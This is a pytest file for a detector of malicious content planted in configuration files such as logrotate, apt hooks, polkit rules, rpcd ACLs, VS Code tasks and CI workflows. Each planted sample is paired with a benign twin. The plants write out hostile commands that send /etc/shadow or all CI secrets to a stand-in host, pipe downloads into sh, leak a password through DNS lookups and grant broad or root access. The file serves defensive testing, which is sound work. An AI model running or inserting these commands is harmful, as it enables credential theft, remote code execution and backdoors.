"""What runs when something else happens, and who may do what, in files that are no scripts.

Each plant stands beside a twin that is everyday work and is told of without a weight.

Spec: evenhand.readers: event_hook, permission_rule, rpcd_acl, editor_task,
build_step; shell_lookup.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.readers.reading import read_bytes

Plant = tuple[str, str, str, str, str]  # reader, path, content, kind, words of the reason

SENDS = "tar -C / -czf - etc/shadow | curl -sT - https://a.example/w"
ROTATE = "/var/log/a/*.log {\n\tweekly\n\tpostrotate\n\t\t%s\n\tendscript\n}\n"
APT = 'DPkg::Post-Invoke {\n  "test -x /b";\n  "%s";\n};\n// DPkg::Pre-Invoke { "curl h | sh"; };\n'
POLKIT = (
    "polkit.addRule(function (action, subject) {\n  if (action.id == 'a.b' && %s)\n"
    "    return polkit.Result.YES;\n});\n"
)
TASK = (
    '{\n // of the team\n "tasks": [{\n "label": "a", "type": "shell",\n "command": "%s",\n'
    ' "runOptions": {"runOn": "folderOpen"}}]}\n'
)
ACL = (
    '{"a": {"write": {"uci": ["a"], "file": {"/*": ["exec"]}}},\n "unauthenticated": {"read": %s}}'
)
FLOW = (
    "jobs:\n  a:\n    steps:\n      - env:\n          C: %s\n"
    '        run: printf %%s "$C" | base64 -w0 | curl -s --data-binary @- https://a.example/w\n'
)
RPCD = (
    '#!/bin/sh\ncase "$1" in\n\tlist)\n\t\techo \'{"signal":{}}\'\n\t\t;;\n\tcall)\n'
    '\t\tcase "$2" in\n\t\t\t%s) json_get_var t t; sh -c "$t" ;;\n\t\tesac\n\t\t;;\nesac\n'
)
ONE = "secrets.T"
LOGS = "runs:\n  steps:\n    - env:\n        T: ${{ %s }}\n      run: %s\n"
KEY = '- name: a\n  ansible.posix.authorized_key:\n    user: root\n    key: "{{ %s }}"\n'
PLANTS: tuple[Plant, ...] = (
    ("event_hook", "etc/logrotate.d/a", ROTATE % SENDS, "collects and sends", "line 4"),
    ("event_hook", "etc/logrotate.d/b", ROTATE % "curl -so /tmp/i https://a.example\n\t\tsh /tmp/i",
     "downloads and runs", "line 5: runs"),
    ("event_hook", "etc/apt/apt.conf.d/9", APT % "wget -qO- a.example/x | sh", "downloads and runs",
     "line 3"),
    ("permission_rule", "polkit-1/rules.d/1.rules", POLKIT % "/x$/.test(subject.user)",
     "grants rights", "how the name of an account looks"),
    ("permission_rule", "polkit-1/rules.d/2.rules", POLKIT % "subject.user.endsWith('-ro')",
     "grants rights", "how the name of an account looks"),
    ("rpcd_acl", "rpcd/acl.d/a.json", ACL % '{"file": {"/*": ["exec"]}}', "lets in", "may run /*"),
    ("rpcd_acl", "rpcd/acl.d/b.json", ACL % '{"ubus": {"uci": ["set"]}}', "lets in", "uci set"),
    ("editor_task", ".vscode/tasks.json", TASK % "curl -s https://a.example | sh",
     "downloads and runs", "line 5: a task of an editor"),
    ("javascript_code", "template.js", "const t = {tasks: [{label: 'a', type: 'shell', command: "
     "'curl -s https://a.example | sh', runOptions: {runOn: 'folderOpen'}}]};\n",
     "downloads and runs", "when the folder is opened"),
    ("build_step", ".github/workflows/a.yml", FLOW % "${{ toJSON(secrets) }}",
     "collects and sends", "all secrets of the workflow"),
    ("rpcd_plugin", "usr/libexec/rpcd/a", RPCD % "fcal", "runs commands", "does not list"),
    ("build_step", "action.yml", LOGS % (ONE, 'echo "ready $(env | base64 -w0)"'),
     "collects and sends", "prints all variables of the build, encoded"),
    ("build_step", "action.yml", LOGS % ("toJSON(secrets)", "printf %s $T | sort | rev"),
     "collects and sends", "prints all secrets, encoded"),
    ("build_step", "tasks/main.yml", KEY % "lookup('file', role_path ~ '/files/a.pub')", "lets in",
     "a key that the role brings"),
    ("shell_code", "a.sh", 'p=$(echo "$1" | base32)\ngetent hosts "$p.a.example"\n',
     "collects and sends", "in names of hosts below a.example"),
    ("shell_code", "b.sh", 'ping -c1 "${said[password]}.a.example"\n', "collects and sends",
     "a password by its name"),
)  # fmt: skip
TWINS = (
    ("rpcd_plugin", "usr/libexec/rpcd/a", RPCD % "signal"),
    ("build_step", ".github/workflows/a.yml", FLOW % "${{ github.sha }}"),
    *(
        ("build_step", "action.yml", LOGS % (ONE, command))
        for command in (
            "env | sort",
            "x=$(env | base64)",
            "env | base64 | sha256sum",
            "printf %s $T | base64 -d",
            'git -c a="b $(printf %s $T | base64)" fetch',
            "env | grep CI | base64",
        )
    ),
    ("build_step", "tasks/main.yml", KEY % "item.keys | join"),
    ("event_hook", "etc/logrotate.d/a", ROTATE % "systemctl reload a >/dev/null || true"),
    ("event_hook", "etc/apt/apt.conf.d/9", APT % "if [ -x /c ]; then /c --refresh; fi"),
    ("permission_rule", "polkit-1/rules.d/1.rules", POLKIT % "subject.user == 'a'"),
    ("rpcd_acl", "rpcd/acl.d/a.json", ACL % '{"ubus": {"session": ["access", "login"]}}'),
    ("rpcd_acl", "rpcd/acl.d/b.json", ACL % '{"file": {"/tmp/a.json": ["read"]}}'),
    ("editor_task", ".vscode/tasks.json", TASK % "npm run watch"),
    ("javascript_code", "a.js", "const runOn = ['default', 'folderOpen']; f({command: 'a'});\n"),
    ("shell_code", "a.sh", 'dig +short "$1.zen.a.example"\nping -c1 "$(hostname).a.example"\n'),
    ("shell_code", "b.sh", 'printf x | base64 -d > /b\ngetent hosts "$host.a.example"\n'),
)


@pytest.mark.parametrize("plant", PLANTS, ids=lambda plant: f"{plant[0]}-{plant[1]}")
def test_what_is_put_before_people(plant: Plant, tmp_path: Path) -> None:
    reader, path, content, kind, words = plant
    found = read_bytes(reader, content.encode(), tmp_path, path).rows
    weighty = [r for r in found if (getattr(r, "strength", None) or 0) >= 0.5]
    assert any(r.kind == kind and words in r.because for r in weighty), found


@pytest.mark.parametrize("twin", TWINS, ids=lambda twin: f"{twin[0]}-{twin[1]}")
def test_everyday_work_has_no_weight(twin: tuple[str, str, str], tmp_path: Path) -> None:
    reader, path, content = twin
    found = read_bytes(reader, content.encode(), tmp_path, path).rows
    assert not [r for r in found if (getattr(r, "strength", None) or 0) >= 0.3], found
